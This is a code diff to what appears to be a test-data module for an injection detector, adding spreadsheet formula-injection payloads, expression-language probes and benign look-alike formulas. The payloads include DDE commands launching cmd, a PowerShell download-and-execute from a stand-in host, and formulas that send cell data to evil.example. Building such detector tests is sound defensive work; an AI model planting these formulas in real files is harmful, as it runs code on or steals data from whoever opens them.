@@ -150,6 +150,10 @@ TYPE_KEYS = ["__class", "__className", "json_class", "__type", "py/object", "@cl
 JSON_TYPE_HINTS = [f'{{"{k}": "{v}", "a": 1}}' for k, v in itertools.product(
     TYPE_KEYS, ["Foo", "subprocess.Popen"])]
 TEMPLATES += ["{{= it.x }}", "{{= Tnn96}}"]
+# the expression language's implicit objects, asked for by name
+TEMPLATES += [f"{o}{{{n}}}" for o, n in itertools.product(
+    ["$", "#"], ["applicationScope", "sessionScope", "pageContext", "facesContext",
+                 "initParam", "requestScope"])]
 # Smarty's reserved variable, whatever it is asked for
 TEMPLATES += [f"{{{sp}$smarty.{k}{sp}}}" for sp, k in itertools.product(
     ["", " "], ["version", "template_object", "now", "server.PATH"])]
@@ -175,8 +179,22 @@ JAVA_STREAMS = [enc(java_stream(c, tail)).decode().rstrip("=" if strip else "")
                     (b"", b"x", b"xp"),     # one or two "=" of padding
                     (base64.b64encode, base64.urlsafe_b64encode), (False, True))]
 
+# spreadsheet formulas a CSV export carries: a program through DDE, a
+# cell sent out by a function that fetches a URL built from it
+FORMULAS = [f"{lead}{pre}{prog}|'{arg}'!{item}"
+            for lead, pre, (prog, arg), item in itertools.product(
+                ["", "name,note\nbob,", '"'], ["=", "+", "-2+3+", "@SUM(1+1)*"],
+                [("cmd", " /C calc"), ("powershell", " IEX(wget 0xcc.example)"),
+                 ("MSEXCEL", "\\..\\..\\Windows\\System32\\cmd.exe")],
+                ["A0", "'A1'"])]
+FORMULAS += ['=DDE("cmd";"/C calc";"x")', "+DDEAUTO(cmd,\"/c calc\")"]
+FORMULAS += [f'={fn}({pre}"https://evil.example/?d="{op}{cell}{post}'
+             for fn, (pre, op, post), cell in itertools.product(
+                 ["WEBSERVICE", "IMPORTXML", "IMPORTDATA", "HYPERLINK", "IMAGE"],
+                 [("", "&", ")"), ("CONCAT(", ",", "))")], ["A1", "$B$2", "AA10"])]
 CODE_CLASSES = {"yaml-type-tag": YAML_TAGS, "template": TEMPLATES,
-                "json-type-hint": JSON_TYPE_HINTS, "java-serialized": JAVA_STREAMS}
+                "json-type-hint": JSON_TYPE_HINTS, "java-serialized": JAVA_STREAMS,
+                "formula": FORMULAS}
 
 # -- benign look-alikes ---------------------------------------------------------
 
@@ -200,6 +218,11 @@ LINKER = ["In function `main': undefined reference to `foo'",
           "libbar.a(obj.o): In function `func(char *)':\n: undefined reference to `__ctype'",
           "Supported keywords: ``@function``, ``@enum`` and ``@struct``.",
           "a function `helper` and a class `Base`"]
+# spreadsheet formulas that compute, link or fetch a constant URL; pipes
+# and quotes in lists and commands
+SHEETS = ["=SUM(A1:A3)", '=HYPERLINK("https://example.com","site")', '=IF(A1>0,"yes","no")',
+          '=IMPORTXML("https://example.com/feed.xml","//item")', "+44 20 7946 0958",
+          "- item | 'quoted' ! wow", "a | b 'c' ! d", "=A1&B1", "@channel | 'deploy' done!"]
 # template syntax named or held in text, computing nothing
 TEMPLATE_TEXT = ["Use {$name} in Smarty templates", "the smarty.version variable",
                  "<#1> and <#2> are ticket refs", "rating <# 5 #>", "<#= DateTime.Now #>",
@@ -238,7 +261,7 @@ URLS = ["https://github.com/nodejs/node/blob/main/lib/child_process.js",
         "https://example.com/docs/templates#{{name}}"]
 
 BENIGN_CLASSES = {"markdown": MARKDOWN, "styles": STYLES, "linker": LINKER,
-                  "template-text": TEMPLATE_TEXT, "types": TYPES, "placeholders": PLACEHOLDERS,
+                  "template-text": TEMPLATE_TEXT, "sheets": SHEETS, "types": TYPES, "placeholders": PLACEHOLDERS,
                   "code": CODE, "urls": URLS}
 
 
